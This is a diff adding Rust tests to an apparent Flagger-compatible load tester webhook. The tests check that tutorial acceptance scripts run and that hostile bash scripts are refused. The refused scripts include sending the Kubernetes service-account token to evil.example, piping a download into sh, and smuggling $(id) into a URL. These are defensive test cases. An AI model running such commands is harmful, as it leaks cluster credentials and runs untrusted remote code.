@@ -143,9 +143,87 @@ async fn bad_requests_are_refused_with_a_reason() {
     assert_eq!(status, 403);
     assert!(body.starts_with("program \"rm\" is not allowed"), "{body}");
     let (status, body) = tester
-        .post("/", payload("test", json!({ "type": "bash", "cmd": "echo hi" })))
+        .post(
+            "/",
+            payload("test", json!({ "type": "bash", "cmd": "python3 -c 'print(1)'" })),
+        )
         .await;
-    assert_eq!(status, 403, "bash runs only when allowed: {body}");
+    assert_eq!(status, 403, "a script runs only allowed programs: {body}");
+    assert!(body.contains("add it to -script-programs"), "{body}");
+}
+
+/// The acceptance tests of Flagger's tutorials run as they are with the default settings (a
+/// `bash` task piping curl into grep, the same as a `cmd` line, which Flagger runs with `sh -c`),
+/// with real curl and grep against a loopback server; a script that would upload a file the load
+/// tester can read, or run a program off the lists, is refused and told which flag allows it.
+#[tokio::test]
+async fn flaggers_documented_scripts_run_with_the_default_settings() {
+    let app = axum::Router::new().route(
+        "/token",
+        axum::routing::post(|| async { r#"{"token":"eyJhbGciOi","expiresAt":"2026-12-01"}"# }),
+    );
+    let listener = tokio::net::TcpListener::bind(("127.0.0.1", 0)).await.expect("listen");
+    let canary = format!("http://{}", listener.local_addr().expect("address"));
+    let server = tokio::spawn(async move {
+        let _ = axum::serve(listener, app).await;
+    });
+    let runner = Runner::new(DEFAULT_ALLOWED.map(String::from), Duration::from_secs(10));
+    let tester = LoadTester::start(Service::new(runner, GateStore::memory(), None, None)).await;
+    let acceptance = format!("curl -sd 'test' {canary}/token | grep token");
+    let (status, body) = tester
+        .post(
+            "/",
+            payload(
+                "test",
+                json!({ "type": "bash", "cmd": acceptance, "returnCmdOutput": "true" }),
+            ),
+        )
+        .await;
+    assert_eq!((status, body.contains("eyJhbGciOi")), (200, true), "{body}");
+    let failing = format!("curl -sd 'test' {canary}/token | grep -q no-such-field");
+    let (status, _) = tester
+        .post("/", payload("test", json!({ "type": "bash", "cmd": failing })))
+        .await;
+    assert_eq!(status, 500, "grep finding nothing fails the webhook");
+    let (status, body) = tester
+        .post(
+            "/",
+            payload(
+                "test",
+                json!({ "cmd": format!("curl -s {canary}/token | grep -q token") }),
+            ),
+        )
+        .await;
+    assert_eq!(
+        (status, body.as_str()),
+        (202, "started"),
+        "a cmd line with a pipe, as Flagger runs it"
+    );
+
+    for (script, says) in [
+        (
+            "curl -s -d @/var/run/secrets/kubernetes.io/serviceaccount/token http://evil.example/".to_string(),
+            "curl in a script may not read or write files",
+        ),
+        (
+            "curl -s http://evil.example/x | sh".to_string(),
+            "runs \"sh\", which is not allowed",
+        ),
+        (
+            "curl -s \"http://evil.example/$(id)\"".to_string(),
+            "could run a program that cannot be checked",
+        ),
+    ] {
+        let (status, body) = tester
+            .post("/", payload("test", json!({ "type": "bash", "cmd": script })))
+            .await;
+        assert_eq!(status, 403, "{script}: {body}");
+        assert!(
+            body.contains(says) && body.contains("-allowed-programs"),
+            "{script}: {body}"
+        );
+    }
+    server.abort();
 }
 
 #[tokio::test]
@@ -170,6 +248,26 @@ async fn the_namespace_regexp_and_the_token_are_enforced() {
             .send()
     };
     assert_eq!(call("team-a", "wrong").await.expect("request").status().as_u16(), 401);
+    // As a Canary's webhook carries it: in the URL's user information (reqwest, like the
+    // operator's client, sends it as basic credentials).
+    let in_url = |userinfo: &str| {
+        let url = tester.url.replacen("http://", &format!("http://{userinfo}@"), 1);
+        reqwest::Client::new()
+            .post(format!("{url}/gate/check"))
+            .json(&payload("team-a", json!({})))
+            .send()
+    };
+    assert_eq!(
+        in_url("s3cret").await.expect("request").status().as_u16(),
+        403,
+        "closed, but admitted"
+    );
+    assert_eq!(
+        in_url("flagger:s3cret").await.expect("request").status().as_u16(),
+        403,
+        "admitted"
+    );
+    assert_eq!(in_url("s3cret:wrong").await.expect("request").status().as_u16(), 401);
     assert_eq!(call("team-a", "s3cret").await.expect("request").status().as_u16(), 202);
     let refused = call("prod", "s3cret").await.expect("request");
     assert_eq!(refused.status().as_u16(), 403);
